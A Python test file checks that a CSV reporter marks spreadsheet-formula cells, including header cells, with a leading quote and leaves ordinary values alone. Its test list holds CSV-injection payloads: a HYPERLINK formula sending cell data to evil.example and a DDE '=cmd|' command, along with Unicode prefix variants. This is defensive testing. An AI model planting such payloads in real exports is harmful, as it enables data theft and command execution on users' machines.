"""Tables as CSV: what goes in comes out, and no spreadsheet runs it."""

from __future__ import annotations

import csv
import io

import pytest

from grader.reporters.csv import csv_of
from tests.reporters.hostile import PAYLOADS

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1-555-0100: ok",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
)


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_marked(text):
    assert read(csv_of(("a",), [(text,)])) == [["a"], ["'" + text]]


@pytest.mark.parametrize("text", FORMULAS)
def test_also_as_the_name_of_a_column(text):
    assert read(csv_of((text,), [])) == [["'" + text]]


@pytest.mark.parametrize("text", FORMULAS + PAYLOADS)
def test_raw_is_as_it_was(text):
    assert read(csv_of(("a", "b"), [(text, "next")], raw=True))[1] == [text, "next"]


@pytest.mark.parametrize("text", ["a=b", "in/design.md", "'quoted'", "3.5", "", "é", "a\tb"])
def test_what_is_no_formula_is_left(text):
    assert read(csv_of(("a", "b"), [(text, 1)]))[1] == [text, "1"]


def test_numbers_stay_numbers_and_nothing_is_empty():
    rows = [(-1.5, -3, 0.1234567, -0.0, None, float("nan"), float("inf"), 1e-9)]
    assert csv_of("abcdefgh", rows).split(b"\n")[1] == b"-1.5,-3,0.123457,0.0,,,,0.0"
